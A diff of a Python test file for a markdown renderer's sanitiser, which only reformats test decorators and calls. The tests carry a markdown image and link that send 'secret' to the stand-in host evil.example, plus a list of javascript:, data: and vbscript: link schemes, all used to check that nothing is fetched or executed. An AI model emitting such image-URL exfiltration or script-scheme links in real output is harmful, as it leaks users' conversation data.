@@ -140,9 +140,7 @@ def test_hostile_text_is_only_text(payload: str) -> None:
     assert_safe(render(payload))
 
 
-@pytest.mark.parametrize(
-    "frame", ["> {}", "- {}", "# {}", "**{}**", "a {} b", "| a |\n|-|\n| {} |", "[{}](https://a)"]
-)
+@pytest.mark.parametrize("frame", ["> {}", "- {}", "# {}", "**{}**", "a {} b", "| a |\n|-|\n| {} |", "[{}](https://a)"])
 def test_hostile_text_is_only_text_wherever_it_is(frame: str) -> None:
     for payload in PAYLOADS:
         assert_safe(render(frame.format(payload)))
@@ -177,9 +175,7 @@ def test_any_text_that_looks_like_html_is_safe(source: str) -> None:
 
 
 def test_an_address_with_the_conversation_in_it_is_not_fetched() -> None:
-    page = assert_safe(
-        render("![secret](https://evil.example/?q=secret)\n\n![b][c]\n\n[c]: https://evil.example/c")
-    )
+    page = assert_safe(render("![secret](https://evil.example/?q=secret)\n\n![b][c]\n\n[c]: https://evil.example/c"))
     loaders = {"src", "srcset", "poster", "data", "background", "ping", "action", "formaction", "style"}
     assert not [element for element in page.every() if loaders & element.attributes.keys()]
     assert [a.text for a in page.all("a")] == ["secret", "b"]
@@ -211,8 +207,6 @@ def test_the_second_lock_holds_by_itself(html: str, left: str) -> None:
     assert clean(html) == left
 
 
-@pytest.mark.parametrize(
-    "address", ["javascript:a", "data:a", "/a", "//a", "#a", "vbscript:a", "java\tscript:a"]
-)
+@pytest.mark.parametrize("address", ["javascript:a", "data:a", "/a", "//a", "#a", "vbscript:a", "java\tscript:a"])
 def test_the_second_lock_knows_addresses(address: str) -> None:
     assert "href" not in clean(f'<a href="{address}">a</a>')
